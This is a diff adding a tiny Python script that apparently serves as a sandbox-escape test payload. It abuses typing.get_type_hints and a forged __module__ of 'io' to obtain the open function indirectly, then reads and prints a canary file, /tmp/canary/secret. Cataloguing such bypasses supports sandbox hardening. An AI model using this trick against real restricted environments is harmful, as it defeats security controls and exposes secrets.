@@ -1,0 +1,14 @@
+# source: own
+# effect: secret
+
+import dataclasses
+import typing
+
+
+@dataclasses.dataclass
+class Tools:
+    open: "open" = None
+
+
+Tools.__module__ = "io"
+print(typing.get_type_hints(Tools)["open"]("/tmp/canary/secret").read())
